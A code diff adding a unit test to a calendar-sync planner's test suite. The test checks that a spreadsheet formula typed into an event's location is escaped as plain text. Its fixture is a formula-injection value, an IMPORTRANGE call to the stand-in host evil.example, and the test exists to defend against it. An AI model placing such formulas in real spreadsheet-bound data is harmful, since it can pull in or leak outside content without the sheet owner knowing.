@@ -105,6 +105,18 @@ describe('planCalendar', () => {
     expect(planIsEmpty(planCalendar({ wanted: pastMoved, ...state, now }))).toBe(true);
   });
 
+  it("keeps Calendar's version of a place as text: a formula typed into the event's location stays words", () => {
+    const all = meetings();
+    const target = all[2]!;
+    const state = syncedState(all);
+    state.live[target.event.id] = asCalendarHasIt(target, {
+      location: '=IMPORTRANGE("https://evil.example/x","A1")',
+      etag: '"edited"',
+    });
+    const [drift] = planCalendar({ wanted: all, ...state, now }).drift;
+    expect(drift!.keepCalendar.values.location).toBe('\'=IMPORTRANGE("https://evil.example/x","A1")');
+  });
+
   describe('an event edited directly in Calendar', () => {
     const all = meetings();
     const target = all[2]!;
